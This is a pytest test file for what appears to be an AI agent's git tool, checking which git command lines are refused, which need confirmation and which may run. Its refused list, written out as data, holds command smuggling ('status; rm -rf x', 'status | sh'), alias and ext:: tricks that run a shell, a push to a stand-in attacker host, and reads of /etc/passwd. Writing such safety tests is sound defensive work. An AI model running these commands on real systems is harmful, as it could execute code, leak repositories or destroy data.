import pytest

from loom_core.errors import ErrorCategory, ToolFailed
from loom_tools.git.command_line import parse
from loom_tools.git.effect import effect_of


def understood(args, paths=()):
    return effect_of(parse(args), lambda operand: operand in paths)


@pytest.mark.parametrize(
    "args",
    [
        "-c core.pager=x status",
        "-calias.x=!sh x",
        "--exec-path=/tmp status",
        "--git-dir=/elsewhere status",
        "--work-tree=/ status",
        "-C .. status",
        "--config-env=core.pager=X status",
        "push -f",
        "push -vf",
        "push --force",
        "push --force-with-lease",
        "push --mirror",
        "push --delete origin main",
        "push origin +main",
        "push origin :main",
        "push origin -- +main",
        "push --receive-pack=x origin",
        "push --exec=x origin",
        "push ext::sh%20-c%20x",
        "push https://evil.example/x main",
        "push ../elsewhere",
        "push -- --receive-pack=x",
        "fetch --upload-pack=x origin",
        "fetch --upload-pa x",
        "fetch ext::sh",
        "pull --upload-pack x origin",
        "ls-remote --upload-pack=x .",
        "clone https://evil.example/x",
        "config user.name x",
        "config --global --get x",
        "config --add core.pager x",
        "config core.fsmonitor x",
        "config --file /etc/x --get y",
        "rebase --exec x main",
        "rebase -x x main",
        "rebase -i main",
        "filter-branch --tree-filter x",
        "submodule update --init",
        "submodule foreach x",
        "difftool",
        "mergetool",
        "diff --output=/tmp/x",
        "diff --outpu=x",
        "diff --ext-diff",
        "log --ext-diff -p",
        "log --textconv",
        "show --textconv HEAD",
        "diff --no-index /etc/passwd x",
        "grep -O x",
        "grep --open-files-in-pager=x y",
        "log --output x",
        "commit -t /etc/passwd",
        "commit -e -m x",
        "commit --gpg-sign=x -m y",
        "commit -S -m y",
        "bisect run x",
        "daemon",
        "gui",
        "help -w",
        "instaweb",
        "send-email x",
        "archive --exec=x HEAD",
        "archive -o ../x HEAD",
        "bundle create ../x HEAD",
        "format-patch -o .. HEAD",
        "apply --unsafe-paths x",
        "am x",
        "worktree add ../x",
        "remote add x y",
        "remote set-url origin x",
        "init /elsewhere",
        "init ../elsewhere",
        "init --template=x",
        "init --separate-git-dir=x",
        "update-ref HEAD x",
        "symbolic-ref HEAD x",
        "hash-object -w x",
        "hook run x",
        "notes add",
        "replace a b",
        "stash branch x",
        "x",
        "!sh",
        "status; rm -rf x",
        "status && rm x",
        "status | sh",
        "log > x",
        "log 'unclosed",
        "",
        "git",
        "git git status",
        "credential fill",
        "var GIT_EDITOR",
        "clean --interactive",
        "add -p",
        "add --pathspec-from-file=/etc/passwd",
        "checkout --pathspec-from-file=x",
        "p4 x",
        "svn x",
        "fast-import",
        "upload-pack .",
        "receive-pack .",
        "http-backend",
        "shell",
    ],
)
def test_what_runs_programs_or_leaves_the_workspace_is_refused(args):
    with pytest.raises(ToolFailed) as refused:
        understood(args)

    assert refused.value.category is ErrorCategory.SAFETY
    assert "\n" not in str(refused.value)


@pytest.mark.parametrize(
    "args",
    [
        "reset --hard",
        "reset --hard HEAD~1",
        "clean -fd",
        "clean -fdx",
        "branch -D topic",
        "branch -f main HEAD~3",
        "checkout -- file",
        "checkout -f main",
        "checkout HEAD file",
        "checkout file",
        "checkout .",
        "checkout '*.py'",
        "checkout ':(top)x'",
        "checkout -B main other",
        "switch -f main",
        "switch --discard-changes main",
        "switch -C main",
        "restore file",
        "restore -SW file",
        "push",
        "push origin main",
        "pull",
        "fetch",
        "stash drop",
        "stash clear",
        "reflog expire --expire=now --all",
        "reflog delete HEAD@{1}",
        "gc --prune=now",
        "tag -d v1",
        "tag -f v1",
        "rm -f file",
        "rebase main",
        "merge --abort",
    ],
)
def test_what_destroys_or_sends_asks_first(args):
    effect = understood(args, paths={"file", "."})

    assert effect.reason
    assert not effect.only_reads


@pytest.mark.parametrize(
    "args",
    [
        "add -A",
        "add file",
        "commit -m 'a message'",
        "commit -am message",
        "commit --amend --no-edit",
        "checkout -b topic",
        "checkout main",
        "switch -c topic",
        "switch main",
        "branch topic",
        "branch -d topic",
        "tag v1",
        "tag -a v1 -m one",
        "merge topic",
        "cherry-pick abc123",
        "revert HEAD",
        "stash",
        "stash push -m x",
        "stash pop",
        "reset HEAD file",
        "reset --soft HEAD~1",
        "restore --staged file",
        "mv a b",
        "rm file",
        "rm --cached file",
        "init",
        "gc",
    ],
)
def test_usual_work_runs_without_asking(args):
    effect = understood(args)

    assert (effect.only_reads, effect.reason) == (False, "")


@pytest.mark.parametrize(
    "args",
    [
        "status",
        "git status --short",
        "git --no-pager log --oneline -5",
        "log -n 3 --format=%H",
        "log --since yesterday -- src",
        "diff HEAD~1 -- file",
        "diff --stat --cached",
        "show HEAD:file",
        "blame -L 1,5 file",
        "branch",
        "branch -a -vv",
        "branch --list 'x*'",
        "tag",
        "tag -l",
        "stash list",
        "reflog",
        "remote -v",
        "remote get-url origin",
        "config --get user.name",
        "clean -n",
        "rev-parse --abbrev-ref HEAD",
        "grep -n word",
        "--version",
    ],
)
def test_looking_only_reads(args):
    effect = understood(args)

    assert effect.reason == ""
    assert effect.only_reads or args == "clean -n"


def test_a_near_name_is_offered():
    with pytest.raises(ToolFailed, match="did you mean 'status'"):
        parse("staus")


def test_values_of_options_are_no_operands():
    line = parse("commit -m --hard --author 'A <a@b>' -- -file")

    assert line.operands == ("-file",)
    assert line.options == {"m", "author"}
    assert line.has_separator


@pytest.mark.parametrize(
    ("args", "said"),
    [
        ("log -p; id", "one git command at a time"),
        ("log --onelin", "did you mean '--oneline'?"),
        ("log --xyzzy", "is not known here; leave it out"),
    ],
)
def test_a_refused_option_is_answered_in_one_short_line(args, said):
    with pytest.raises(ToolFailed) as refused:
        parse(args)

    assert said in str(refused.value)
    assert len(str(refused.value)) < 120
